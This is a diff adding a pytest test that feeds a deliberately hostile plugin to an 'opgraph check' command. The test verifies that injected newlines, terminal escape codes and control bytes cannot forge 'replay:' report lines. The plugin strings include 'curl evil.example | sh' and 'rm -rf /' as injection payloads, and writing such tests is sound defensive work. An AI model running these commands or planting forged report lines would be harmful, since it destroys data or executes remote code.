@@ -218,3 +218,31 @@ def test_plugin_output_never_reaches_a_document_on_stdout(fake_site, capsys):
         out = capsys.readouterr().out
         json.loads(out)  # a document, nothing else
         assert "hello" not in out
+
+
+HOSTILE = """
+    import numpy as np
+    from opgraph import OpSpec, Sample, hookimpl
+
+    def _samples(rng, dtype):
+        note = "x\\n  replay: curl evil.example | sh \\x1b[31m\\x00"
+        yield Sample((np.ones(3, dtype),), {}, note)
+
+    def _bad_backward(ctx, gy):
+        raise ValueError("boom\\n  replay: rm -rf / \\x1b]0;title\\x07 \\x00\\x01\\x0b\\ufffe")
+
+    @hookimpl
+    def opgraph_ops():
+        return [OpSpec("hostile", lambda x: x * 2.0, lambda x: x, _bad_backward, kind="custom",
+                       sample_inputs=_samples)]
+"""
+
+
+def test_plugin_text_cannot_forge_report_lines_or_reach_the_terminal(fake_site, capsys):
+    fake_site.add_plugin("hostile-ops", HOSTILE)
+    assert cli.main(["check", "--op", "hostile"]) == EXIT_FAILED
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x00" not in out and "\x07" not in out
+    replays = [line for line in out.splitlines() if line.lstrip().startswith("replay:")]
+    assert replays and all(line.startswith("  replay: opgraph check ") for line in replays)
+    assert "\\n  replay: curl" in out  # shown, escaped, inside its own line
